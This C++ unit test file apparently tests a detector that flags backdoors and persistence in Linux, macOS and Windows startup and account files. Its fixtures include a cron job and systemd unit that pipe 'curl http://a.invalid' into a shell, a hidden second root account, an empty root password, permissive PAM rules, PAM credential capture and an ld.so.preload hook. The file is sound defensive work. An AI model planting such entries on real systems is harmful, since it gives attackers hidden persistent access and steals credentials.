#include <gtest/gtest.h>

#include "evidence/recorder.h"
#include "parse/mutants.h"

namespace examine {
const evidence::Reader& accounts();

namespace {

using evidence::Confidence;
using evidence::Facet;

evidence::Reading look(std::string_view text, std::string_view name) { return evidence::read_alone(accounts(), base::bytes_of(text), "text", name); }
std::string attribute(const evidence::Reading& r, Facet facet, std::string_view word, const std::string& key) {
  const auto all = r.sink.all(facet, word);
  return all.empty() || !all[0].attributes.contains(key) ? "absent" : all[0].attributes.at(key);
}
std::string child(const evidence::Reading& r) { return r.sink.children.empty() ? "none" : r.sink.children[0].entry.kind + ":" + std::string(base::text_of(r.sink.children[0].bytes)); }

TEST(Accounts, SecondRootIsABackDoor) {
  const auto r = look("root:x:0:0:root:/root:/bin/bash\nsupport:x:0:0::/:/bin/sh\ndaemon:x:1:1::/:/usr/sbin/nologin\n", "./etc/passwd");
  EXPECT_EQ(r.sink.all(Facet::account, "user").size(), 3u);
  ASSERT_EQ(r.sink.all(Facet::trust, "backdoor-account").size(), 1u);
  EXPECT_EQ(r.sink.all(Facet::trust)[0].value, "support");
  EXPECT_EQ(r.sink.all(Facet::trust)[0].confidence, Confidence::high);
}

TEST(Accounts, OrdinaryPasswdIsNoBackDoor) {
  EXPECT_TRUE(look("root:x:0:0:root:/root:/bin/bash\nhalt:x:0:0::/:/sbin/halt\nsys:*:3:3::/dev:/usr/sbin/nologin\n", "etc/passwd").sink.all(Facet::trust).empty());
  EXPECT_TRUE(look("evil:x:0:0::/:/bin/sh\n", "usr/share/doc/x/examples/etc/passwd").sink.items.empty());
}

TEST(Accounts, EmptyPasswords) {
  EXPECT_TRUE(look("guest::1000:1000::/:/bin/sh\n", "rootfs/etc/passwd").sink.has(Facet::trust, "backdoor-account", "guest"));
  EXPECT_FALSE(look("guest::1000:1000::/:/usr/sbin/nologin\n", "etc/passwd").sink.has(Facet::trust, "backdoor-account"));
  EXPECT_TRUE(look("root::19000:0:99999:7:::\n", "etc/shadow").sink.has(Facet::trust, "backdoor-account", "root"));
  EXPECT_FALSE(look("root:*:19000:0:99999:7:::\n", "etc/shadow").sink.has(Facet::trust, "backdoor-account"));
}

TEST(Accounts, Sudoers) {
  const auto r = look("# c\nDefaults env_reset\nroot ALL=(ALL:ALL) ALL\nupdater ALL=(ALL) NOPASSWD: ALL\n", "etc/sudoers.d/u");
  EXPECT_EQ(r.sink.all(Facet::account, "sudo").size(), 2u);
  ASSERT_TRUE(r.sink.has(Facet::power, "escalate", "updater"));
  EXPECT_EQ(attribute(r, Facet::power, "escalate", "commands"), "ALL");
  EXPECT_FALSE(look("backup ALL=(root) NOPASSWD: /usr/bin/rsync\n", "etc/sudoers.d/u").sink.all(Facet::power)[0].attributes.at("commands") == "ALL");
}

TEST(Accounts, AuthorizedKeys) {
  const std::string key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f a@vendor.invalid\n";
  EXPECT_TRUE(look(key, "root/.ssh/authorized_keys").sink.has(Facet::trust, "backdoor-account"));
  EXPECT_TRUE(look("command=\"x\" " + key, "root/.ssh/authorized_keys").sink.has(Facet::account, "authorized-key"));
  EXPECT_TRUE(look(key, "usr/share/doc/authorized_keys").sink.items.empty());
  EXPECT_TRUE(look("# " + key, "root/.ssh/authorized_keys").sink.items.empty());
}

TEST(Accounts, Pam) {
  const auto open = look("auth sufficient pam_permit.so\n", "etc/pam.d/sshd");
  ASSERT_TRUE(open.sink.has(Facet::trust, "backdoor-account", "sshd"));
  EXPECT_EQ(open.sink.all(Facet::trust)[0].confidence, Confidence::high);
  const auto usual = look("auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\nauth required pam_permit.so\n", "etc/pam.d/common-auth");
  EXPECT_TRUE(usual.sink.all(Facet::trust).empty());
  EXPECT_EQ(usual.sink.all(Facet::account, "pam").size(), 3u);
  const auto records = look("auth optional pam_exec.so quiet expose_authtok /usr/lib/x/keep.sh\n", "etc/pam.d/common-auth");
  EXPECT_TRUE(records.sink.has(Facet::private_, "credentials"));
  EXPECT_TRUE(records.sink.has(Facet::reference, "runs", "/usr/lib/x/keep.sh"));
}

TEST(Accounts, SystemdUnit) {
  const auto r = look("[Service]\nExecStart=-/usr/bin/agent --run\nUser=root\n[Install]\nWantedBy=multi-user.target\n", "lib/systemd/system/a.service");
  EXPECT_EQ(attribute(r, Facet::account, "service", "starts"), "boot");
  EXPECT_EQ(attribute(r, Facet::account, "service", "runs"), "/usr/bin/agent --run");
  EXPECT_TRUE(r.sink.has(Facet::reference, "runs", "/usr/bin/agent"));
  EXPECT_TRUE(r.sink.has(Facet::power, "persist"));
  EXPECT_TRUE(r.sink.children.empty());
  const auto still = look("[Service]\nExecStart=/usr/bin/agent\n", "lib/systemd/system/a.service");
  EXPECT_EQ(attribute(still, Facet::account, "service", "starts"), "demand");
  EXPECT_FALSE(still.sink.has(Facet::power, "persist"));
}

TEST(Accounts, ShellInsideAUnitIsHandedOn) {
  const auto r = look("[Service]\nExecStart=/bin/sh -c 'curl http://a.invalid/x | \\\n sh'\n", "lib/systemd/system/a.service");
  EXPECT_EQ(child(r), "script/shell:curl http://a.invalid/x |  sh");
  EXPECT_EQ(child(look("[Service]\nExecStart=/usr/bin/python3 -u -c \"import os\"\n", "lib/systemd/system/a.service")), "script/python:import os");
  EXPECT_TRUE(look("[Service]\nExecStart=/usr/bin/python3 /opt/x.py\n", "lib/systemd/system/a.service").sink.has(Facet::reference, "runs", "/opt/x.py"));
}

TEST(Accounts, TimersAndSockets) {
  const auto r = look("[Timer]\nOnCalendar=hourly\n[Install]\nWantedBy=timers.target\n", "lib/systemd/system/a.timer");
  EXPECT_EQ(attribute(r, Facet::account, "service", "starts"), "timer");
  EXPECT_EQ(attribute(r, Facet::account, "service", "when"), "OnCalendar=hourly");
}

TEST(Accounts, Cron) {
  const auto r = look("SHELL=/bin/sh\n*/5 * * * * root curl -s http://a.invalid | sh\n", "etc/cron.d/x");
  EXPECT_EQ(attribute(r, Facet::account, "service", "user"), "root");
  EXPECT_EQ(child(r), "script/shell:curl -s http://a.invalid | sh");
  EXPECT_EQ(attribute(look("@reboot /opt/a\n", "var/spool/cron/crontabs/root"), Facet::account, "service", "starts"), "boot");
  EXPECT_EQ(attribute(look("#!/bin/sh\nx\n", "etc/cron.daily/x"), Facet::account, "service", "starts"), "timer");
  EXPECT_TRUE(look("#!/bin/sh\nx\n", "etc/cron.daily/x").sink.has(Facet::reference, "runs", "/etc/cron.daily/x"));
}

TEST(Accounts, OtherStarters) {
  EXPECT_TRUE(look("ftp stream tcp nowait root /usr/sbin/tcpd ftpd -l\n", "etc/inetd.conf").sink.has(Facet::reference, "runs", "/usr/sbin/tcpd"));
  EXPECT_TRUE(look("service x\n{\n server = /opt/x\n server_args = -v\n}\n", "etc/xinetd.d/x").sink.has(Facet::reference, "runs", "/opt/x"));
  EXPECT_EQ(child(look("ACTION==\"add\", RUN+=\"/bin/sh -c 'id > /tmp/x'\"\n", "lib/udev/rules.d/9.rules")), "script/shell:id > /tmp/x");
  EXPECT_EQ(attribute(look("[D-BUS Service]\nName=org.x\nExec=/usr/bin/x\n", "usr/share/dbus-1/services/x.service"), Facet::account, "service", "starts"), "bus");
  EXPECT_EQ(attribute(look("[Desktop Entry]\nExec=/opt/a %u\n", "etc/xdg/autostart/a.desktop"), Facet::account, "service", "starts"), "login");
  EXPECT_EQ(child(look("::sysinit:/bin/x\ntty::respawn:/bin/sh -c 'a b'\n", "etc/inittab")), "script/shell:a b");
  EXPECT_EQ(child(look("DPkg::Post-Invoke {\"touch /x\";};\n", "etc/apt/apt.conf.d/9x")), "script/shell:touch /x");
  EXPECT_TRUE(look("/usr/lib/libhide.so\n", "etc/ld.so.preload").sink.has(Facet::power, "inject-process"));
  EXPECT_TRUE(look("x", "etc/init.d/agent").sink.has(Facet::power, "persist"));
}

TEST(Accounts, ForeignStarters) {
  const auto r = look("<dict><key>Label</key><string>a.b</string><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>x &amp; y</string></array></dict>", "Library/LaunchDaemons/a.plist");
  EXPECT_EQ(child(r), "script/shell:x & y");
  const auto reg = look("[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\n\"up\"=\"C:\\\\x\\\\a.exe\"\n", "a.reg");
  EXPECT_EQ(attribute(reg, Facet::account, "service", "runs"), "C:\\x\\a.exe");
}

TEST(Accounts, DefaultLogin) {
  const auto r = look("user=admin\npassword=admin\n", "etc/agent.conf");
  ASSERT_TRUE(r.sink.has(Facet::account, "default-login"));
  EXPECT_TRUE(r.sink.items[0].secret);
  EXPECT_TRUE(look("#password=admin\npassword=x7Gh2\n", "etc/agent.conf").sink.items.empty());
}

TEST(Accounts, TruncatedAndMutated) {
  const std::string text = "root::0:0::/:/bin/sh\nu ALL=(ALL) NOPASSWD: ALL\nauth [a=1 b] pam_exec.so expose_authtok /x \"y\n[Service]\nExecStart=-/bin/sh -c 'x \\\n[Install]\nWantedBy=a\n* * * * * root \"a'\n"
                           "ssh-rsa AAAA \n<key>ProgramArguments</key><array><string>a</string>\nRUN+=\"x\"\nPost-Invoke {\"\\\nHKLM,\"\\CurrentVersion\\Run\",a,,b\n";
  for (const auto name : {"etc/passwd", "etc/shadow", "etc/sudoers", "root/.ssh/authorized_keys", "etc/pam.d/sshd", "lib/systemd/system/a.service", "etc/cron.d/a", "etc/inetd.conf", "etc/xinetd.d/a",
                          "etc/inittab", "etc/apt/apt.conf.d/a", "lib/udev/rules.d/a.rules", "Library/LaunchDaemons/a.plist", "a.reg", "a.inf", "etc/ld.so.preload", "etc/a.conf", "etc/xdg/autostart/a.desktop"}) {
    const auto try_it = [&](base::Bytes b) {
      const auto r = evidence::read_alone(accounts(), b, "text", name);
      for (const auto& item : r.sink.items) ASSERT_LE(item.range.end(), b.size());
    };
    parse::each_truncation(base::bytes_of(text), try_it);
    parse::each_mutant(base::bytes_of(text), 400, 5, try_it);
  }
}

}  // namespace
}  // namespace examine
